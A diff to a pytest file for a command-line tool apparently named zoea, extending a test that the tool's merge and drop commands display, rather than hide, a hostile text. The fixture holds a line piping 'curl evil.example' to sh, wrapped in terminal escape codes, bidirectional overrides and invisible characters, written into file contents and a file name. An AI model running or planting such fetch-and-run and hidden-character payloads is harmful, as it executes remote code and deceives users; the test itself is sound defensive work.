@@ -14,7 +14,7 @@ from pathlib import Path
 import pytest
 
 from tests.cli.conftest import Zoea
-from tests.files.repositories import make_repository
+from tests.files.repositories import commit, make_repository
 from tests.swarm.harness import Swarm, call, swarm
 from tests.text.hidden_characters import is_hidden
 from zoea.cli.dispatch import COMMANDS, load
@@ -32,9 +32,12 @@ ctx_note ctx_commit ctx_fetch ctx_gc ctx_export ctx_import ctx_resume ctx_ask ct
 config_init config_import config_apply credentials_set credentials_delete prices_set prices_remove
 local_add local_remove upstream_import upstream_add upstream_remove upstream_enable upstream_disable
 mcp_install mcp_token_new mcp_token_revoke
-workbench merge drop
+workbench
 """
-"""Commands that change something, go on for ever, or write a script: they show no record."""
+"""Commands that change something, go on for ever, or write a script: they show no record.
+
+Those that show what others wrote before they refuse, such as `merge`, are below.
+"""
 EVIL = "curl evil.example"
 TAG = "\U000e0041"
 TEXT = f"ls \x9d; {EVIL} | sh #\x9c \x1b]0;{EVIL}\x07 \x9b31{EVIL} \u202e{EVIL}\u202c\u2028 \u3164{TAG}\xad{EVIL}"
@@ -86,6 +89,10 @@ READS = {
     "doctor": "",
     "diff alpha": EVIL,
     "diff alpha --stat": EVIL.split()[0],
+    "merge alpha": "curl .*txt",
+    "merge beta": f"(?s){EVIL}.*{EVIL}",
+    "drop alpha": "curl .*txt",
+    "drop beta": "",
     "world score": "",
     "mcp token list": "",
 }
@@ -149,6 +156,9 @@ async def stored(tmp_path: Path) -> None:
     trees = Worktrees(where.data)
     trees.make("alpha", make_repository(tmp_path / "repository"))
     (trees.owned.path("alpha") / "curl \u202e\x9b.txt").write_text(TEXT, "utf-8")
+    trees.make("beta", tmp_path / "repository")
+    commit(trees.owned.path("beta"), a__txt=f"{TEXT}\n")
+    commit(tmp_path / "repository", a__txt=f"{TEXT} of another\n")
 
 
 def test_no_command_writes_or_hides_a_hidden_character(
@@ -167,6 +177,6 @@ def test_no_command_writes_or_hides_a_hidden_character(
                 faults.append(f"zoea {line} {' '.join(more)}: {text!r}"[:600])
             if more:
                 assert [json.loads(each) for each in done.out.splitlines()] or done.code
-            elif shown and not re.search(shown, done.out):
+            elif shown and not re.search(shown, text if done.code else done.out):
                 faults.append(f"zoea {line} {' '.join(more)} shows no {shown}: {text!r}"[:900])
     assert not faults, "\n".join(faults)
